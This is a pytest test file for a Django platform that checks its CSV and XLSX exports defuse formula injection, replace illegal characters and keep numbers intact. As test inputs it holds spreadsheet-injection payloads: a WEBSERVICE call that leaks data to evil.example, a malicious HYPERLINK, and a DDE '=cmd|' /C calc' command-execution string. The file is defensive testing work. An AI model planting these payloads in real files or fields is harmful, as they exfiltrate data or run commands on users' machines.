"""Every CSV and XLSX the platform writes goes through one rule (`pmm.core.spreadsheet`): text that a
spreadsheet would run as a formula is written as text, characters a workbook cannot hold become
U+FFFD, numbers stay numbers; and the member's workbook reads its own texts back unchanged."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.cell import WriteOnlyCell
from typer.testing import CliRunner

from conftest import write_results
from pmm.assessments.models import Assessment, Change, DataValue, KpiResponse
from pmm.assessments.selectors import assessment_access
from pmm.assessments.services import ValueInput, kpi_update, values_save
from pmm.assessments.workbook import layout as L
from pmm.assessments.workbook import workbook_export, workbook_import
from pmm.authz.roles import Role
from pmm.charts import Chart
from pmm.charts.downloads import chart_csv, csv_value
from pmm.cli import app
from pmm.core.actors import SYSTEM
from pmm.core.errors import ApplicationError
from pmm.core.spreadsheet import REPLACEMENT, clean_text, safe_cell, safe_csv_field, unguard_text
from pmm.cycles.selectors import cycle_spec
from pmm.framework.models import Kpi
from pmm.members.models import Member
from pmm.reviews.matrix import matrix_xlsx, review_matrix
from pmm.reviews.services import query_answer, query_raise, review_move

MEMBER = "KEN"
HYPERLINK = '=HYPERLINK("http://evil.example","Click")'
WEBSERVICE = '=WEBSERVICE("http://evil.example/?leak")'
FORMULAS = [HYPERLINK, WEBSERVICE, "+1+1", "-2+3", "@SUM(A1:A2)", "=1+1"]
ILLEGAL = ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\x0e", "\x1f", "\ud800", "\udfff", "\ufffe", "\uffff"]
SRC = Path(__file__).resolve().parents[1] / "src" / "pmm"


def _save(book: openpyxl.Workbook) -> openpyxl.Workbook:
    out = io.BytesIO()
    book.save(out)
    return openpyxl.load_workbook(io.BytesIO(out.getvalue()))


def _cells(book: openpyxl.Workbook) -> list[Any]:
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]


def _is_formula_free(book: openpyxl.Workbook) -> bool:
    return not [c.coordinate for c in _cells(book) if c.data_type == "f"]


# --------------------------------------------------------------------------------------------
# The rule itself


@pytest.mark.parametrize("text", [*FORMULAS, "\tcmd", "\rcmd", "'=1+1", "''-x"])
def test_formula_text_is_guarded_for_xlsx_and_csv(text):
    for guarded in (safe_cell(text), safe_csv_field(text)):
        assert guarded == "'" + text
        assert unguard_text(guarded) == text


@pytest.mark.parametrize("value", [None, 0, -3.5, 12, True, False, "plain words", "'quoted", "a - b", ""])
def test_other_values_pass_unchanged(value):
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)
    if isinstance(value, str):
        assert unguard_text(value) == value


def test_csv_numbers_stay_numbers_and_none_is_empty():
    from decimal import Decimal

    assert safe_csv_field(-3.5) == -3.5 and safe_csv_field(-7) == -7
    assert safe_csv_field(Decimal("-1.25")) == Decimal("-1.25")
    assert safe_csv_field(None) == ""
    assert safe_csv_field("-3.5") == "'-3.5", "text that looks like a number is still text"


@pytest.mark.parametrize("char", ILLEGAL)
def test_illegal_characters_are_replaced(char):
    text = f"a{char}b"
    assert clean_text(text) == f"a{REPLACEMENT}b"
    assert safe_cell(text) == f"a{REPLACEMENT}b"
    assert safe_csv_field(text) == f"a{REPLACEMENT}b"
    assert safe_cell("=x" + char) == f"'=x{REPLACEMENT}"
    assert clean_text("tab\tline\nreturn\r é € 𝄞") == "tab\tline\nreturn\r é € 𝄞"


def test_lazy_translations_are_text():
    from django.utils.translation import gettext_lazy

    assert safe_cell(gettext_lazy("Yes")) == "Yes"


def test_a_guarded_cell_is_saved_as_text_not_a_formula():
    """openpyxl (normal and write-only) stores the guarded values as strings that keep the words."""
    book = openpyxl.Workbook()
    sheet = book.active
    for row, text in enumerate([*FORMULAS, "a\x01b", "c\ud800d"], start=1):
        sheet.cell(row, 1, safe_cell(text))
    sheet["B1"] = safe_cell(-3.5)
    loaded = _save(book).active
    for row, text in enumerate(FORMULAS, start=1):
        cell = loaded.cell(row, 1)
        assert cell.data_type == "s" and text in cell.value
    assert loaded["A7"].value == f"a{REPLACEMENT}b" and loaded["A8"].value == f"c{REPLACEMENT}d"
    assert loaded["B1"].value == -3.5 and loaded["B1"].data_type == "n"

    streamed = openpyxl.Workbook(write_only=True)
    ws = streamed.create_sheet("x")
    ws.append([safe_cell(HYPERLINK), safe_cell("a\x0bb"), safe_cell(-1)])
    ws.append([WriteOnlyCell(ws, value=safe_cell(WEBSERVICE))])
    back = _save(streamed)["x"]
    assert [c.data_type for c in back[1]] == ["s", "s", "n"] and back["A2"].data_type == "s"
    assert back["A1"].value == "'" + HYPERLINK and back["B1"].value == f"a{REPLACEMENT}b"


def test_the_rule_exists_once():
    """No module of the platform keeps its own copy of the formula rule or writes CSV/XLSX cells
    without `pmm.core.spreadsheet`."""
    copies = re.compile(r"""\(\s*["']=["'],\s*["']\+["']""")
    offenders = []
    for path in SRC.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.name != "spreadsheet.py" and copies.search(text):
            offenders.append(f"{path.relative_to(SRC)}: a copy of the formula rule")
        writes = "csv.writer(" in text or "csv.DictWriter(" in text or "from openpyxl import Workbook" in text
        if writes and "pmm.core.spreadsheet" not in text:
            offenders.append(f"{path.relative_to(SRC)}: writes cells without pmm.core.spreadsheet")
    assert offenders == []
    import pmm.results.exports as exports

    assert not hasattr(exports, "safe_text")


# --------------------------------------------------------------------------------------------
# The member's workbook: export, API, command line, import


def _where(cycle: Any, element: str, period: str = "T", column: dict[str, str] = L.TEXT) -> tuple[str, str]:
    sheet, row = L.layout_of(cycle_spec(cycle)).home[element]
    return sheet, f"{column[period]}{row}"


def _kpi_where(cycle: Any, kpi: str, column: str) -> tuple[str, str]:
    return L.KPIS, f"{column}{L.layout_of(cycle_spec(cycle)).kpi_row(kpi)}"


def _export(cycle: Any) -> bytes:
    return workbook_export(assessment_access(SYSTEM, cycle, MEMBER), "en", SYSTEM)


def _import(cycle: Any, data: bytes) -> Any:
    return workbook_import(
        actor=SYSTEM, assessment=assessment_access(SYSTEM, cycle, MEMBER), data=data, filename="ken.xlsx"
    )


def _book(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def _all(model: Any) -> Any:
    """Every row of `model` (reads of a member's data are scoped to a reader on the platform)."""
    manager = model.objects
    return manager.unrestricted() if hasattr(manager, "unrestricted") else manager.all()


def _stored(cycle: Any) -> tuple[Any, ...]:
    assessment = Assessment.objects.get(cycle=cycle, member__iso3=MEMBER)
    return (
        assessment.version,
        sorted(
            _all(DataValue)
            .filter(assessment=assessment)
            .values_list("element__code", "period", "value", "state", "reason", "comment")
        ),
        sorted(
            _all(KpiResponse)
            .filter(assessment=assessment)
            .values_list("kpi__code", "applicable", "justification", "disclosure")
        ),
        _all(Change).filter(assessment=assessment).count(),
    )


def _texts(cycle: Any, comment: str, reason: str, justification: str) -> None:
    assessment = assessment_access(SYSTEM, cycle, MEMBER)
    values_save(
        actor=SYSTEM,
        assessment=assessment,
        version=assessment.version,
        items=[
            ValueInput("DECL_TOTAL", "T", 120000),
            ValueInput("DECL_ELECTRONIC", "T", 90000, comment=comment),
            ValueInput("AEO_COUNT", "T-1", None, "not_available", reason=reason),
        ],
        path="api",
    )
    kpi_update(
        actor=SYSTEM,
        assessment=assessment_access(SYSTEM, cycle, MEMBER),
        kpi_code="D1.O2.K2",
        applicable=False,
        justification=justification,
    )


@pytest.fixture
def formula_texts(open_cycle):
    """KEN's comment, not-available reason and KPI justification all look like formulas."""
    _texts(open_cycle, comment=HYPERLINK, reason=WEBSERVICE, justification="=1+1")
    return open_cycle


@pytest.fixture
def control_texts(open_cycle):
    """KEN's texts hold control characters (pasted from another program)."""
    _texts(open_cycle, comment="from the\x0bclearance\x01system", reason="a\x1fb", justification="no\x02AEO")
    return open_cycle


@pytest.mark.django_db
def test_member_texts_in_the_workbook_are_not_formulas(formula_texts):
    book = _book(_export(formula_texts))
    assert _is_formula_free(book)
    for (sheet, ref), text in [
        (_where(formula_texts, "DECL_ELECTRONIC"), HYPERLINK),
        (_where(formula_texts, "AEO_COUNT", "T-1"), WEBSERVICE),
        (_kpi_where(formula_texts, "D1.O2.K2", L.KPI_JUSTIFICATION), "=1+1"),
    ]:
        cell = book[sheet][ref]
        assert cell.data_type != "f" and text in cell.value


@pytest.mark.django_db
def test_an_untouched_workbook_with_formula_texts_imports_without_changes(formula_texts):
    before = _stored(formula_texts)
    report = _import(formula_texts, _export(formula_texts))
    assert report.changed == 0 and _stored(formula_texts) == before


@pytest.mark.django_db
def test_formula_texts_read_back_as_typed_when_another_cell_changes(formula_texts):
    book = _book(_export(formula_texts))
    sheet, ref = _where(formula_texts, "DECL_ELECTRONIC", column=L.VALUE)
    book[sheet][ref] = 95000
    out = io.BytesIO()
    book.save(out)
    report = _import(formula_texts, out.getvalue())
    assert [c.subject for c in report.values] == ["DECL_ELECTRONIC@T"]
    value = _all(DataValue).get(assessment__member__iso3=MEMBER, element__code="DECL_ELECTRONIC", period="T")
    assert (value.value, value.comment) == (95000, HYPERLINK)
    response = _all(KpiResponse).get(assessment__member__iso3=MEMBER, kpi__code="D1.O2.K2")
    assert response.justification == "=1+1"


@pytest.mark.django_db
def test_a_stale_workbook_keeps_formula_texts_without_a_conflict(formula_texts):
    data = _export(formula_texts)
    assessment = assessment_access(SYSTEM, formula_texts, MEMBER)
    values_save(
        actor=SYSTEM,
        assessment=assessment,
        version=assessment.version,
        items=[ValueInput("DECL_TOTAL", "T", 121000)],
        path="form",
    )
    before = _stored(formula_texts)
    report = _import(formula_texts, data)
    assert report.changed == 0 and _stored(formula_texts) == before


@pytest.mark.django_db
def test_text_typed_with_a_leading_apostrophe_in_a_spreadsheet_is_text_not_a_formula(open_cycle):
    """Excel and LibreOffice keep '=2+2 as the text "=2+2" (a string cell): saved as typed."""
    _texts(open_cycle, comment="", reason="x", justification="y")
    book = _book(_export(open_cycle))
    sheet, ref = _where(open_cycle, "DECL_ELECTRONIC")
    cell = book[sheet][ref]
    cell.value = "=2+2"
    cell.data_type, cell.quotePrefix = "s", True  # how a spreadsheet program stores '=2+2
    out = io.BytesIO()
    book.save(out)
    _import(open_cycle, out.getvalue())
    value = _all(DataValue).get(assessment__member__iso3=MEMBER, element__code="DECL_ELECTRONIC", period="T")
    assert value.comment == "=2+2"


@pytest.mark.django_db
def test_a_real_formula_is_still_refused(formula_texts):
    book = _book(_export(formula_texts))
    sheet, ref = _where(formula_texts, "DECL_ELECTRONIC")
    book[sheet][ref] = "=1+1"
    out = io.BytesIO()
    book.save(out)
    before = _stored(formula_texts)
    with pytest.raises(ApplicationError) as caught:
        _import(formula_texts, out.getvalue())
    assert {p.field: p.message for p in caught.value.problems} == {
        f"Sheet {sheet}, cell {ref}": "holds a formula (=1+1); type the value itself."
    }
    assert _stored(formula_texts) == before


@pytest.mark.django_db
def test_control_characters_in_stored_texts_do_not_break_the_workbook(control_texts):
    book = _book(_export(control_texts))
    sheet, ref = _where(control_texts, "DECL_ELECTRONIC")
    assert book[sheet][ref].value == f"from the{REPLACEMENT}clearance{REPLACEMENT}system"
    sheet, ref = _kpi_where(control_texts, "D1.O2.K2", L.KPI_JUSTIFICATION)
    assert book[sheet][ref].value == f"no{REPLACEMENT}AEO"


@pytest.mark.django_db
def test_an_untouched_workbook_with_control_characters_imports_without_changes(control_texts):
    before = _stored(control_texts)
    report = _import(control_texts, _export(control_texts))
    assert report.changed == 0 and _stored(control_texts) == before


@pytest.mark.django_db
def test_workbook_download_and_command_line_survive_control_characters(
    control_texts, client, make_user, bearer, tmp_path
):
    headers = bearer(make_user(Role.NCP, MEMBER))
    url = f"/api/v1/cycles/{control_texts.pk}/assessments/{MEMBER}/workbook.xlsx"
    response = client.get(url, headers=headers)
    assert response.status_code == 200
    assert _is_formula_free(_book(response.content))
    path = tmp_path / "ken.xlsx"
    result = CliRunner().invoke(
        app,
        ["workbook", "export", "--cycle", str(control_texts.pk), "--member", MEMBER, "--output", str(path)],
    )
    assert result.exit_code == 0, result.output
    sheet, ref = _where(control_texts, "AEO_COUNT", "T-1")
    assert openpyxl.load_workbook(path)[sheet][ref].value == f"a{REPLACEMENT}b"


# --------------------------------------------------------------------------------------------
# The comment-response matrix of a peer review


def _answered(s: Any, text: str) -> None:
    query = query_raise(actor=s.lead, review=s.review, kpi="D1.O1.K1", text="Why so low?")
    review_move(actor=s.lead, review=s.review, action="send_round", due_date=_in_two_weeks())
    query.refresh_from_db()
    query_answer(actor=s.ncp, query=query, text=text)


def _in_two_weeks() -> Any:
    from datetime import timedelta

    from django.utils import timezone

    return timezone.localdate() + timedelta(days=14)


def test_the_review_matrix_workbook_writes_text_and_replaces_illegal_characters():
    """The workbook of the matrix, from its plain rows (no database)."""
    from datetime import datetime

    from pmm.reviews.matrix import Matrix, MatrixRow, Step

    answer = "=cmd|' /C calc'!A0 and\x01a bell\x07"
    step = Step(query=1, at=datetime(2025, 3, 1, 9, 30), author="ncp", kind="answer", kind_label="Answer",
                round=1, text=answer)  # fmt: skip
    row = MatrixRow(
        number=1, kpi="D1.O1.K1", kpi_name="@share", element="", period="", year=None, round=1,
        due_date=None, status="open", status_label="Open", question=HYPERLINK, responses=(answer,),
        follow_ups=(), verdict="", verdict_label="", verdict_reason="-2 points\ud800", steps=(step,),
    )  # fmt: skip
    matrix = Matrix(
        member_iso3="KEN", member_name="=Kenya", cycle_id=1, cycle="Cycle 2026", review_status="in_progress",
        review_status_label="In progress", generated_at=datetime(2025, 3, 2, 10, 0), rows=(row,),
    )  # fmt: skip
    book = _book(matrix_xlsx(matrix))
    assert _is_formula_free(book)
    texts = {c.value for c in _cells(book)}
    defused = f"'=cmd|' /C calc'!A0 and{REPLACEMENT}a bell{REPLACEMENT}"
    assert {defused, "'" + HYPERLINK, "'@share", f"'-2 points{REPLACEMENT}", "'=Kenya (KEN)"} <= texts


@pytest.mark.django_db
def test_the_review_matrix_survives_control_characters(started, client, tmp_path):
    s = started
    _answered(s, "=cmd|' /C calc'!A0 and\x01a bell\x07")
    book = _book(matrix_xlsx(review_matrix(s.ncp, s.fresh())))
    assert _is_formula_free(book)
    texts = [c.value for c in book["Thread"]["F"]]
    assert f"'=cmd|' /C calc'!A0 and{REPLACEMENT}a bell{REPLACEMENT}" in texts
    client.force_login(s.ncp)
    from django.urls import reverse

    page = client.get(reverse("reviews:review_matrix_xlsx", args=[s.assessment.cycle_id, MEMBER]))
    assert page.status_code == 200
    out = tmp_path / "matrix.xlsx"
    result = CliRunner().invoke(
        app,
        ["review", "matrix", "--cycle", str(s.assessment.cycle_id), "--member", MEMBER, "--out", str(out)],
    )
    assert result.exit_code == 0, result.output


# --------------------------------------------------------------------------------------------
# Results (CSV, XLSX), charts' CSV


@pytest.fixture
def odd_results(open_cycle):
    """Published results of KEN whose detail is a formula with a control character; a negative value."""
    kpi = Kpi.objects.filter(outcome__dimension__framework=open_cycle.framework).order_by("position").first()
    fields = [
        {"component": c, "status": "computed", "value": -3.5, "detail": HYPERLINK + "\x01"}
        for c in kpi.formula
    ]
    write_results(open_cycle, 1, {Member.objects.get(iso3=MEMBER): [(kpi, "public", fields)]})
    return open_cycle


@pytest.mark.django_db
def test_results_xlsx_writes_text_not_formulas_and_survives_control_characters(odd_results, client):
    response = client.get(f"/api/v1/cycles/{odd_results.pk}/results.xlsx?publication=1")
    assert response.status_code == 200
    book = _book(response.content)
    assert _is_formula_free(book)
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    header, first = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert "detail" in header
    assert first["detail"] == "'" + HYPERLINK + REPLACEMENT
    assert first["value"] == -3.5


@pytest.mark.django_db
def test_results_csv_defuses_formulas_and_keeps_negative_numbers(odd_results, client):
    response = client.get(f"/api/v1/cycles/{odd_results.pk}/results.csv?publication=1")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows and rows[0]["detail"] == "'" + HYPERLINK + REPLACEMENT
    assert rows[0]["value"] == "-3.5"


def test_chart_csv_defuses_formulas_and_replaces_illegal_characters():
    chart = Chart(
        id="x",
        title="t",
        description="d",
        spec={},
        columns=[("name", "=Name"), ("value", "Value")],
        rows=[{"name": "@evil\ud800", "value": -2.0}, {"name": "a\x01b", "value": None}],
        filename="x",
    )
    rows = list(csv.reader(io.StringIO(chart_csv(chart).lstrip("\ufeff"))))
    assert rows == [["'=Name", "Value"], [f"'@evil{REPLACEMENT}", "-2"], [f"a{REPLACEMENT}b", ""]]
    assert csv_value(True) == "Yes" and csv_value(-1.5) == -1.5


@pytest.mark.django_db
def test_results_xlsx_holds_the_csv_rows_with_a_frozen_bold_header_and_an_about_sheet(odd_results, client):
    xlsx = client.get(f"/api/v1/cycles/{odd_results.pk}/results.xlsx?publication=1")
    text = client.get(f"/api/v1/cycles/{odd_results.pk}/results.csv?publication=1")
    book = _book(xlsx.content)
    sheet, about = book.worksheets
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    csv_rows = list(csv.reader(io.StringIO(text.content.decode())))
    sheet_rows = [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    assert sheet_rows == csv_rows  # the same cells, empty text as no cell, numbers as numbers
    assert isinstance(sheet.cell(2, csv_rows[0].index("value") + 1).value, float)
    facts = dict(about.iter_rows(values_only=True))
    assert facts["Rows"] == len(csv_rows) - 1
